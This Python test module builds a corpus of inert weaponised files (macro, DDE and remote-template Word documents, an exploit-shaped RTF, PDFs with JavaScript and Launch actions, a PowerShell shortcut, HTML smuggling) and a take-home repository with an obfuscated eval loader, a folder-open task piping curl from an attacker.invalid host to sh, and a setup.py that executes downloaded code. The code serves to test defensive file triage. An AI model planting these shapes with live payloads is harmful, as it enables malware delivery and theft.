"""Builds the hostile test corpus: weaponised files of the shapes public reporting describes.

Run it to write the corpus to a folder (``python tests/ingest/triage/hostile.py OUTDIR``); the
tests build the same files in memory. Nothing here is harmful: the "payloads" are inert text
(``calc``, ``echo``) and no URL in them resolves (``.invalid``, RFC 6761). What matters is the
*shape*: a real VBA project that oletools parses, a real remote-template relationship, a PDF whose
catalogue really runs JavaScript and Launch actions, a real Windows shortcut header, a take-home
repository with an install script and an obfuscated configuration-file loader.
"""

from __future__ import annotations

import base64
import io
import json
import struct
import sys
import tarfile
import zipfile
import zlib
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))
from ingest_samples import _assemble as assemble_pdf

BAD_HOST = "http://templates.attacker.invalid"

# ---------------------------------------------------------------- a minimal OLE (CFB) writer

_SECTOR = 512
_FREE, _END, _FATSECT, _NOSTREAM = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF


def _dir_entry(
    name: str, kind: int, left: int, right: int, child: int, start: int, size: int
) -> bytes:
    encoded = (name + "\0").encode("utf-16-le") if name else b""
    return (
        encoded.ljust(64, b"\0")
        + struct.pack("<HBB", len(encoded), kind, 1)
        + struct.pack("<III", left, right, child)
        + b"\0" * 16  # CLSID
        + struct.pack("<I", 0)  # state bits
        + b"\0" * 16  # creation and modification times
        + struct.pack("<IQ", start, size)
    )


def cfb(entries: list[tuple[str, int, int, int, int, bytes]]) -> bytes:
    """A compound file: entries are (name, type, left, right, child, stream data); entry 0 is the
    root. Every stream must be at least 4096 bytes, so no mini stream is needed."""
    sectors: list[bytes] = []
    fat: list[int] = []
    dirs = []
    for name, kind, left, right, child, data in entries:
        if kind == 2:
            assert len(data) >= 4096, name
            start = len(sectors)
            count = -(-len(data) // _SECTOR)
            padded = data.ljust(count * _SECTOR, b"\0")
            sectors += [padded[i * _SECTOR : (i + 1) * _SECTOR] for i in range(count)]
            fat += [start + i + 1 for i in range(count - 1)] + [_END]
            dirs.append(_dir_entry(name, kind, left, right, child, start, len(data)))
        else:
            dirs.append(_dir_entry(name, kind, left, right, child, _END, 0))
    while len(dirs) % 4:
        dirs.append(_dir_entry("", 0, _NOSTREAM, _NOSTREAM, _NOSTREAM, 0, 0))
    dir_start = len(sectors)
    blob = b"".join(dirs)
    dir_count = len(blob) // _SECTOR
    sectors += [blob[i * _SECTOR : (i + 1) * _SECTOR] for i in range(dir_count)]
    fat += [dir_start + i + 1 for i in range(dir_count - 1)] + [_END]
    fat_count = -(-(len(fat) + 1) // 128)
    while -(-(len(fat) + fat_count) // 128) > fat_count:
        fat_count += 1
    fat_start = len(sectors)
    fat += [_FATSECT] * fat_count
    fat += [_FREE] * (fat_count * 128 - len(fat))
    fat_bytes = struct.pack(f"<{len(fat)}I", *fat)
    sectors += [fat_bytes[i * _SECTOR : (i + 1) * _SECTOR] for i in range(fat_count)]
    difat = [fat_start + i for i in range(fat_count)] + [_FREE] * (109 - fat_count)
    header = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + b"\0" * 16
        + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
        + b"\0" * 6
        + struct.pack("<IIIIIIIII", 0, fat_count, dir_start, 0, 4096, _END, 0, _END, 0)
        + struct.pack("<109I", *difat)
    )
    return header + b"".join(sectors)


# ---------------------------------------------------------------- a VBA project (MS-OVBA)


def ovba_compress(data: bytes) -> bytes:
    """A CompressedContainer of literal-only chunks (valid, just not smaller)."""
    out = bytearray(b"\x01")
    step = 3640  # 455 groups of a flag byte and 8 literals fit one 4098-byte chunk
    for offset in range(0, len(data), step):
        block = data[offset : offset + step]
        tokens = b"".join(b"\x00" + block[i : i + 8] for i in range(0, len(block), 8))
        out += struct.pack("<H", ((len(tokens) + 2 - 3) & 0x0FFF) | 0xB000) + tokens
    return bytes(out)


def _record(rid: int, payload: bytes) -> bytes:
    return struct.pack("<HI", rid, len(payload)) + payload


def vba_project(module: str, code: str) -> bytes:
    """vbaProject.bin with one procedural module holding ``code``."""
    name = module.encode()
    uname = module.encode("utf-16-le")
    dir_stream = (
        _record(0x01, struct.pack("<I", 1))
        + _record(0x02, struct.pack("<I", 0x409))
        + _record(0x14, struct.pack("<I", 0x409))
        + _record(0x03, struct.pack("<H", 1252))
        + _record(0x04, b"VBAProject")
        + _record(0x05, b"")
        + _record(0x40, b"")
        + _record(0x06, b"")
        + _record(0x3D, b"")
        + _record(0x07, struct.pack("<I", 0))
        + _record(0x08, struct.pack("<I", 0))
        + struct.pack("<HIIH", 0x09, 4, 1, 0)
        + _record(0x0C, b"")
        + _record(0x3C, b"")
        + struct.pack("<HIH", 0x0F, 2, 1)
        + _record(0x13, struct.pack("<H", 0xFFFF))
        + _record(0x19, name)
        + _record(0x47, uname)
        + _record(0x1A, name)
        + _record(0x32, uname)
        + _record(0x1C, b"")
        + _record(0x48, b"")
        + _record(0x31, struct.pack("<I", 4096))
        + _record(0x1E, struct.pack("<I", 0))
        + _record(0x2C, struct.pack("<H", 0xFFFF))
        + struct.pack("<HI", 0x21, 0)
        + struct.pack("<HI", 0x2B, 0)
        + struct.pack("<HI", 0x10, 0)
    )
    dir_stream += b"\0" * 4096  # keeps the compressed stream out of the mini stream
    source = f'Attribute VB_Name = "{module}"\r\n{code}'.encode("latin-1")
    module_stream = b"\0" * 4096 + ovba_compress(source)
    project = (
        f'ID="{{00000000-0000-0000-0000-000000000000}}"\r\nModule={module}\r\nName="VBAProject"\r\n'
    ).encode() + b"\r\n" * 2100
    vba_meta = b"\xcc\x61\xff\xff\x00".ljust(4096, b"\0")
    nos = _NOSTREAM
    return cfb(
        [
            ("Root Entry", 5, nos, nos, 1, b""),
            ("VBA", 1, nos, 2, 4, b""),
            ("PROJECT", 2, nos, nos, nos, project),
            ("dir", 2, nos, nos, nos, ovba_compress(dir_stream)),
            (module, 2, 3, 5, nos, module_stream),
            ("_VBA_PROJECT", 2, nos, nos, nos, vba_meta),
        ]
    )


MACRO_CODE = 'Sub AutoOpen()\r\n    Shell "cmd /c echo inert"\r\nEnd Sub\r\n'

_CT = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" '
    'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>{extra}'
    '<Override PartName="/word/document.xml" ContentType="{main}"/></Types>'
)
_DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
_DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    "{items}</Relationships>"
)
_REL = (
    '<Relationship Id="{id}" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{type}" '
    'Target="{target}"{mode}/>'
)
_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def _rel(rid: str, rtype: str, target: str, external: bool = False) -> str:
    mode = ' TargetMode="External"' if external else ""
    return _REL.format(id=rid, type=rtype, target=target, mode=mode)


def _document(body: str) -> str:
    head = '<?xml version="1.0" encoding="UTF-8"?>'
    return f"{head}<w:document {_W}><w:body>{body}</w:body></w:document>"


def _para(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def ooxml(parts: dict[str, str | bytes], macro: bool = False) -> bytes:
    """A Word package with the given extra parts."""
    extra = '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
    files: dict[str, str | bytes] = {
        "[Content_Types].xml": _CT.format(
            extra=extra if macro else "", main=_DOCM_MAIN if macro else _DOCX_MAIN
        ),
        "_rels/.rels": _RELS.format(items=_rel("rId1", "officeDocument", "word/document.xml")),
        "word/document.xml": _document(_para("Jonathan Miller, Senior Engineer")),
    }
    files.update(parts)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, body in files.items():
            archive.writestr(name, body)
    return out.getvalue()


def macro_document() -> bytes:
    """A macro-enabled Word document (AutoOpen runs Shell) — saved under a .docx name."""
    rels = _rel("rId9", "vbaProject", "vbaProject.bin").replace(
        "officeDocument/2006/relationships/vbaProject",
        "office/2006/relationships/vbaProject",
    )
    return ooxml(
        {
            "word/vbaProject.bin": vba_project("Module1", MACRO_CODE),
            "word/_rels/document.xml.rels": _RELS.format(items=rels),
        },
        macro=True,
    )


def remote_template_document() -> bytes:
    """A .docx whose settings attach a template from a remote address (template injection)."""
    return ooxml(
        {
            "word/settings.xml": (
                f'<?xml version="1.0"?><w:settings {_W}><w:attachedTemplate r:id="rId1" '
                'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"/>'
                "</w:settings>"
            ),
            "word/_rels/settings.xml.rels": _RELS.format(
                items=_rel("rId1", "attachedTemplate", f"{BAD_HOST}/cv.dotm", external=True)
            ),
        }
    )


def dde_document() -> bytes:
    """A .docx with a DDEAUTO field split across runs, the way evasive samples write it."""
    body = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:instrText xml:space="preserve"> DD</w:instrText></w:r>'
        '<w:r><w:instrText xml:space="preserve">EAUTO c:\\\\windows\\\\system32\\\\cmd.exe '
        '"/k echo inert"</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    return ooxml({"word/document.xml": _document(body)})


def embedded_package_document() -> bytes:
    """A .docx with an embedded OLE package (a file the reader is invited to double-click)."""
    native = struct.pack("<IH", 0, 2) + b"invoice.js\0C:\\invoice.js\0" + b"\0" * 8
    nos = _NOSTREAM
    obj = cfb(
        [
            ("Root Entry", 5, nos, nos, 1, b""),
            ("\x01Ole10Native", 2, nos, nos, nos, native.ljust(4096, b"\0")),
        ]
    )
    return ooxml({"word/embeddings/oleObject1.bin": obj})


def rtf_exploit() -> bytes:
    """An RTF with an Equation Editor object forced to update on open (CVE-2017-11882 shape)."""
    ole = b"\x01\x05\x00\x00\x02\x00\x00\x00\x0b\x00\x00\x00Equation.3\x00" + b"\0" * 8
    ole += struct.pack("<I", 64) + b"\xd0\xcf\x11\xe0" + b"\0" * 60
    return (
        b"{\\rtf1\\ansi{\\*\\template " + BAD_HOST.encode() + b"/t.dot}"
        b"{\\object\\objemb\\objupdate{\\*\\objclass Equation.3}{\\*\\objdata "
        + ole.hex().encode()
        + b"}}Resume}"
    )


def pdf_with_javascript_and_launch() -> bytes:
    """A PDF that runs JavaScript on open and has a link that launches a program."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /Names << /JavaScript 7 0 R >> >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Annots [6 0 R] >>",
        b"<< /Length 44 >>\nstream\nBT /F1 12 Tf 72 720 Td (Resume) Tj ET\nendstream",
        b"<< /Type /Action /S /JavaScript /JS (app.alert\\('inert'\\);) >>",
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A << /S /Launch /F (cmd.exe) "
        b"/Win << /F (cmd.exe) /P (/c echo inert) >> >> >>",
        b"<< /Names [(init) 5 0 R] >>",
    ]
    return _pdf(objects)


def pdf_lure() -> bytes:
    """A one-page PDF that says it is protected and links out ("click to view")."""
    text = b"BT /F1 14 Tf 72 720 Td (This document is protected. Click here to view) Tj ET"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Annots [5 0 R] "
        b"/Resources << /Font << /F1 6 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(text), text),
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A << /S /URI /URI ("
        + BAD_HOST.encode()
        + b"/view) >> >>",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    return _pdf(objects)


def _pdf(objects: list[bytes]) -> bytes:
    return assemble_pdf(objects, 1, None)


def shortcut() -> bytes:
    """A Windows shortcut (.lnk) header whose arguments start PowerShell."""
    header = b"L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00F"
    args = "powershell.exe -w hidden -c echo inert".encode("utf-16-le")
    return header + b"\0" * 56 + struct.pack("<H", len(args) // 2) + args


def program() -> bytes:
    """The first bytes of a Windows program (inert: a header only)."""
    return b"MZ\x90\x00" + b"\0" * 56 + b"PE\0\0" + b"\0" * 200


def zip_with_program() -> bytes:
    """A portfolio ZIP whose 'document' is a program with a double extension."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("portfolio/readme.txt", "My portfolio")
        archive.writestr("portfolio/Resume.pdf.exe", program())
        archive.writestr("portfolio/setup.bin", program())
    return out.getvalue()


def encrypted_zip() -> bytes:
    """A ZIP whose member is marked encrypted (the general-purpose flag bit 0)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("resume.docx", b"\x00" * 64)
    data = bytearray(out.getvalue())
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        index = data.find(signature)
        data[index + offset] |= 0x01
    return bytes(data)


def seven_zip_with_program(password: str | None = None) -> bytes:
    """A 7z portfolio holding a program with a double extension; with a password, the member
    names are encrypted too (``header_encryption``)."""
    import py7zr

    out = io.BytesIO()
    with py7zr.SevenZipFile(
        out, "w", password=password, header_encryption=password is not None
    ) as archive:
        archive.writestr(b"My portfolio", "portfolio/readme.txt")
        archive.writestr(program(), "portfolio/Resume.pdf.exe")
    return out.getvalue()


def _vint(n: int) -> bytes:
    out = bytearray()
    while True:
        low, n = n & 0x7F, n >> 7
        out.append(low | (0x80 if n else 0))
        if not n:
            return bytes(out)


def _rar_block(kind: int, flags: int, body: bytes, data_size: int | None = None) -> bytes:
    fields = _vint(kind) + _vint(flags) + (_vint(data_size) if data_size is not None else b"")
    fields += body
    size = _vint(len(fields))
    return struct.pack("<I", zlib.crc32(size + fields)) + size + fields


def rar_with_program() -> bytes:
    """A RAR 5 archive (members stored, written from the format's public description, since no
    RAR writer is free software) holding a program with a double extension."""
    out = b"Rar!\x1a\x07\x01\x00" + _rar_block(1, 0, _vint(0))  # main header
    for name, data in (("portfolio/readme.txt", b"My portfolio"), ("Resume.pdf.exe", program())):
        encoded = name.encode()
        body = _vint(0x4) + _vint(len(data)) + _vint(0x20) + struct.pack("<I", zlib.crc32(data))
        body += _vint(0) + _vint(0) + _vint(len(encoded)) + encoded  # stored, Windows host
        out += _rar_block(2, 0x2, body, len(data)) + data  # file header with a data area
    return out + _rar_block(5, 0, _vint(0))  # end of archive


def iso_image() -> bytes:
    """An ISO 9660 image header (what attackers mail to escape mark-of-the-web)."""
    return b"\0" * 0x8001 + b"CD001" + b"\0" * 2043


def html_smuggling() -> bytes:
    """HTML that decodes a blob in script and saves it as a download."""
    payload = base64.b64encode(program() * 20).decode()
    return (
        "<html><body><script>var d='" + payload + "';var b=new Blob([atob(d)]);"
        "var a=document.createElement('a');a.href=URL.createObjectURL(b);"
        "a.download='resume.iso';a.click();</script></body></html>"
    ).encode()


# ---------------------------------------------------------------- a weaponised take-home


LOADER = (
    "module.exports = {content: ['./src/**/*.{js,jsx}'], theme: {extend: {}}, plugins: []};"
    + " " * 220
    + "global['_V']='5-3';eval(Buffer.from('"
    + base64.b64encode(b"require('child_process').exec('echo inert')" * 8).decode()
    + "','base64').toString());"
)


def hostile_repository() -> dict[str, str]:
    """A take-home project: postinstall script, config-file loader, folder-open task, build hook."""
    return {
        "package.json": json.dumps(
            {
                "name": "crypto-dashboard-test",
                "version": "1.0.0",
                "scripts": {"start": "vite", "postinstall": "node scripts/setup.js"},
                "dependencies": {"react": "^18.2.0", "vite-plugin-next-refresh": "^1.0.3"},
            },
            indent=2,
        ),
        "tailwind.config.js": LOADER,
        "src/App.jsx": "export default function App() { return <h1>Dashboard</h1>; }\n",
        "scripts/setup.js": "console.log('setup');\n",
        ".vscode/tasks.json": json.dumps(
            {
                "version": "2.0.0",
                "tasks": [
                    {
                        "label": "env",
                        "type": "shell",
                        "command": "curl -s http://tasks.attacker.invalid/a | sh",
                        "runOptions": {"runOn": "folderOpen"},
                    }
                ],
            }
        ),
        "backend/setup.py": (
            "import urllib.request, subprocess\nfrom setuptools import setup\n"
            "exec(urllib.request.urlopen('http://py.attacker.invalid/p').read())\n"
            "setup(name='backend', version='0.1')\n"
        ),
        "backend/requirements.txt": "flask==3.0.0\n",
    }


def hostile_files() -> dict[str, bytes]:
    """Every hostile file of the corpus, by the name it arrives under."""
    return {
        "resume.docx": macro_document(),
        "cv-template.docx": remote_template_document(),
        "cover-letter.docx": dde_document(),
        "references.docx": embedded_package_document(),
        "resume.rtf": rtf_exploit(),
        "resume.pdf": pdf_with_javascript_and_launch(),
        "resume-protected.pdf": pdf_lure(),
        "Resume.pdf.lnk": shortcut(),
        "resume.pdf.exe": program(),
        "resume\u202efdp.exe": program(),
        "portfolio.zip": zip_with_program(),
        "documents.zip": encrypted_zip(),
        "resume.iso": iso_image(),
        "resume.html": html_smuggling(),
    }


def repository_zip(files: dict[str, str]) -> bytes:
    """A repository as a ZIP, the way a candidate sends a take-home."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, body in files.items():
            archive.writestr(f"take-home/{name}", body)
    return out.getvalue()


def repository_tar(files: dict[str, str]) -> bytes:
    """A repository as a gzip-compressed TAR."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as tar:
        for name, body in files.items():
            data = body.encode()
            info = tarfile.TarInfo(f"take-home/{name}")
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return out.getvalue()


def write_corpus(root: Path) -> None:
    """Write every hostile file, and the hostile repository as a folder, under ``root``."""
    files = root / "files"
    files.mkdir(parents=True, exist_ok=True)
    for name, data in hostile_files().items():
        (files / name).write_bytes(data)
    repo = root / "take-home"
    for name, body in hostile_repository().items():
        target = repo / name
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(body, encoding="utf-8")


if __name__ == "__main__":
    write_corpus(Path(sys.argv[1] if len(sys.argv) > 1 else "hostile-corpus"))
